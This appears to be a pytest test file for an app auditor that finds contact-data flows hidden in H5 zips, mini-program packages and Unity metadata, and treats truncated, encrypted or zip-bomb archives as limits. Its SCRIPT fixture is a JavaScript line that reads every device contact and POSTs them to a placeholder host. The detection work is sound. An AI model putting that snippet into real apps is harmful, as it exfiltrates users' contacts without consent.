"""Offline H5 packages, mini-programs and Unity's metadata: the containers as they are shipped."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from auditor.catalog import Catalog
from auditor.facts.hybrid import archives, unity
from auditor.facts.hybrid.read import HybridFacts, read_hybrid
from auditor.model import Level
from tests.facts_fixture import FakeCode, manifest, package

CATALOG = Catalog()
SCRIPT = b"navigator.contacts.find(['*'],function(c){fetch('https://a.example/x',{method:'POST',body:c})});"


def read(files: dict[str, bytes], code: FakeCode | None = None) -> HybridFacts:
    return read_hybrid(package(files, manifest("com.a.b")), code or FakeCode(), CATALOG)


def zipped(members: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return held.getvalue()


def wxapkg(members: dict[str, bytes]) -> bytes:
    names = {n.encode(): d for n, d in members.items()}
    table = 18 + sum(12 + len(n) for n in names)
    index, body = b"", b""
    for name, data in names.items():
        index += struct.pack(">I", len(name)) + name
        index += struct.pack(">II", table + len(body), len(data))
        body += data
    head = b"\xbe" + struct.pack(">III", 0, len(index) + 4, len(body)) + b"\xed"
    return head + struct.pack(">I", len(names)) + index + body


@pytest.mark.parametrize(
    ("name", "data", "place"),
    [
        ("assets/h5/dist.zip", zipped({"js/a.js": SCRIPT}), "assets/h5/dist.zip!/js/a.js"),
        ("assets/x.wgt", zipped({"app-service.js": SCRIPT}), "assets/x.wgt!/app-service.js"),
        ("assets/m.wxapkg", wxapkg({"/app.js": SCRIPT}), "assets/m.wxapkg!/app.js"),
    ],
)
def test_contacts_to_host_inside_an_archive(name: str, data: bytes, place: str) -> None:
    found = read({name: data})
    assert [(f.level, f.endpoint, f.sink.caller) for f in found.flows] == [
        (Level.LINKED, "https://a.example/x", place)
    ]
    assert found.limits == ()


def encrypted() -> bytes:
    data = bytearray(zipped({"a.js": SCRIPT}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(zipped({"a.js": SCRIPT})[:60], id="cut off"),
        pytest.param(encrypted(), id="encrypted"),
        pytest.param(zipped({"a.js": b" " * 30_000_000}), id="bomb"),
        pytest.param(wxapkg({"/a.js": SCRIPT})[:20], id="table cut off"),
    ],
)
def test_archive_that_cannot_be_read_is_a_limit(data: bytes) -> None:
    found = read({"assets/a.zip": data})
    assert (found.flows, [(x.kind, x.where) for x in found.limits]) == (
        (),
        [("hybrid", "assets/a.zip")],
    )


def test_other_files_are_no_archives() -> None:
    assert read({"assets/a.zip": b"no archive", "assets/b.wgt": b"\xbe" * 30}).limits == ()
    with pytest.raises(archives.UnreadableArchiveError):
        list(archives.members(b"PK\x03\x04", (".js",)))


def metadata(literals: list[str], names: list[str], version: int = 29) -> bytes:
    store = "".join(literals).encode()
    table, at = b"", 0
    for text in literals:
        table += struct.pack("<II", len(text.encode()), at)
        at += len(text.encode())
    pool = b"".join(n.encode() + b"\0" for n in names)
    head = 32
    offsets = (head, len(table), head + len(table), len(store))
    rest = (head + len(table) + len(store), len(pool))
    return unity.MAGIC + struct.pack("<i6I", version, *offsets, *rest) + table + store + pool


UNITY = metadata(
    [
        "https://api.u.example",
        "/user/contacts",
        "android.provider.ContactsContract$Contacts",
        "Content-Type",
    ],
    ["AndroidJavaClass", "UnityWebRequest"],
)


def test_unity_links_contacts_to_the_host() -> None:
    files = {"assets/bin/Data/Managed/Metadata/global-metadata.dat": UNITY}
    found = read(files, FakeCode(["Lcom/unity3d/player/UnityPlayer;"]))
    assert [(r.data_type, r.level, r.site.offset) for r in found.reads] == [
        ("contacts", Level.REFERENCED, UNITY.index(b"android.provider"))
    ]
    assert [(f.level, f.endpoint) for f in found.flows] == [
        (Level.LINKED, "https://api.u.example/user/contacts")
    ]
    assert [e.url for e in found.endpoints] == ["https://api.u.example"]


@pytest.mark.parametrize("cut", [4, 31, 32, 60, 90])
def test_damaged_metadata_gives_no_wrong_text(cut: int) -> None:
    data = UNITY[:cut]
    texts = unity.texts_in(data) if unity.is_metadata(data) else []
    assert [t for t in texts if "example/" in t.text] == []
